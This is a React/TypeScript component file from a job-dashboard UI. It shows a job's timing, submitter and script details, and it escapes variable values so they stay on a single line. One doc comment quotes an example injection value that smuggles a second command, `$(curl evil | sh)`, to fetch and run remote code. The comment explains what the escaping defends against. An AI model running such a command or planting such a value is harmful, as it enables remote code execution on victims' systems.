import { Fragment } from 'react'
import type { JobDetail } from '../../../../shared/model'
import { variableText } from '../../../../shared/script-variables'
import { jsonText } from '../shell/json-text'
import { JsonView } from '../shell/JsonView'
import { SafeText, visibleText } from '../shell/SafeText'
import { formatDuration, fullTime, KIND_LABELS } from './format'
import { UserName } from '../shell/UserName'

/** Dialect labels (`labels.dialect`) as the products are called; jobs without one came through JobDesk's own API or window. */
const DIALECTS: Record<string, string> = { linkis: 'Linkis', rillflow: 'Rill Flow', explorer: 'NebulaGraph Explorer', ges: 'Huawei GES', tugraph: 'TuGraph' }


const record = (v: unknown): Record<string, unknown> => (v && typeof v === 'object' && !Array.isArray(v) ? (v as Record<string, unknown>) : {})

/**
 * When the job was submitted, started and finished, how long it waited in the queue and ran,
 * who submitted it through which dialect, and for a workflow the descriptor version.
 */
export function JobTimes({ detail, now }: { detail: JobDetail; now: number }) {
  const { labels } = detail
  const language = record(detail.input).language
  const via = labels.dialect ? (DIALECTS[labels.dialect] ?? labels.dialect) : 'JobDesk'
  const runAs = labels.executeUser && labels.executeUser !== detail.submitter ? labels.executeUser : null
  const version = labels.descriptorId ? /:md5_(\w+)$/.exec(labels.descriptorId)?.[1] : undefined
  return (
    <>
      <dt>Type</dt>
      <dd>
        {KIND_LABELS[detail.kind]}
        {typeof language === 'string' && (
          <span data-testid="job-language">
            {' '}
            · <SafeText text={language} />
          </span>
        )}
      </dd>
      <dt>Submitted by</dt>
      <dd data-testid="job-submitter">
        <UserName name={detail.submitter} /> via <SafeText text={via} />
        {runAs && (
          <span className="muted">
            {' '}
            (runs as <SafeText text={runAs} />)
          </span>
        )}
      </dd>
      {labels.descriptorId && (
        <>
          <dt>Descriptor</dt>
          <dd data-testid="job-descriptor" title={visibleText(labels.descriptorId)}>
            <SafeText text={labels.descriptorId.replace(/:md5_\w+$/, '')} /> <span className="muted">version {version?.slice(0, 8) ?? '?'}</span>
          </dd>
        </>
      )}
      <dt>Submitted</dt>
      <dd data-testid="job-submitted">{fullTime(detail.createdAt)}</dd>
      <dt>Started</dt>
      <dd data-testid="job-started">{fullTime(detail.startedAt)}</dd>
      <dt>Finished</dt>
      <dd data-testid="job-finished">{fullTime(detail.finishedAt)}</dd>
      <dt>Queued</dt>
      <dd data-testid="job-queued">{formatDuration(detail.createdAt, detail.startedAt ?? (detail.finishedAt ?? null), now)}</dd>
      <dt>Duration</dt>
      <dd data-testid="job-duration">{formatDuration(detail.startedAt, detail.finishedAt, now)}</dd>
    </>
  )
}

/** One variable of a script job: its name and its value as substitution writes it into the code. */
export interface JobVariable {
  name: string
  value: string
}

/**
 * What a job runs: a script's `code`, `language` and `variables` (in the order given; those without a
 * value, which substitution ignores, left out), or any other job's `input` as compact JSON, a large
 * one cut (shell/json-text.ts; the job detail offers all of it: JsonView); `input` is
 * undefined when there is none (null, or an empty object). Raw text: draw it through SafeText, the
 * variables through VariableLines.
 */
export function whatRuns(detail: JobDetail): { code?: string; language?: string; variables?: JobVariable[]; input?: string } {
  const input = record(detail.input)
  if (detail.kind === 'script' && typeof input.code === 'string') {
    const variables = Object.entries(record(input.variables)).flatMap(([name, v]) => {
      const value = variableText(v)
      return value === undefined ? [] : [{ name, value }]
    })
    return {
      code: input.code,
      language: typeof input.language === 'string' ? input.language : undefined,
      variables: variables.length > 0 ? variables : undefined,
    }
  }
  const empty = detail.input == null || (typeof detail.input === 'object' && Object.keys(input).length === 0 && !Array.isArray(detail.input))
  return empty ? {} : { input: jsonText(detail.input).text }
}

/**
 * A script job's variables, one `name = value` line each. Name and value are drawn single-line
 * (SafeText): a line break, tab or CR inside a value shows as its escape (⟨U+000A⟩), so a value such
 * as `hi"⏎cleanup = "$(curl evil | sh)` cannot pass for a second variable while its text runs.
 */
export function VariableLines({ variables, testId }: { variables: JobVariable[]; testId: string }) {
  return (
    <pre className="code" data-testid={testId}>
      {variables.map((v, i) => (
        <Fragment key={i}>
          {i > 0 && '\n'}
          <SafeText text={v.name} /> = <SafeText text={v.value} />
        </Fragment>
      ))}
    </pre>
  )
}

/** What ran: a script's code and variables, a workflow's context (its input), another job's input. */
export function WhatRan({ detail }: { detail: JobDetail }) {
  const ran = whatRuns(detail)
  if (ran.code !== undefined) {
    return (
      <details className="what-ran" open>
        <summary>Code{ran.language !== undefined ? ` (${visibleText(ran.language)})` : ''}</summary>
        <pre className="code" data-testid="job-code">
          <SafeText text={ran.code} multiline />
        </pre>
        {ran.variables !== undefined && <VariableLines variables={ran.variables} testId="job-variables" />}
      </details>
    )
  }
  if (ran.input === undefined) return detail.kind === 'workflow' ? <p className="muted">Context: {'{}'} (none given)</p> : null
  return (
    <details className="what-ran" open={detail.kind === 'workflow'}>
      <summary>{detail.kind === 'workflow' ? 'Context' : 'Input'}</summary>
      <JsonView value={detail.input} testId="job-input" />
    </details>
  )
}
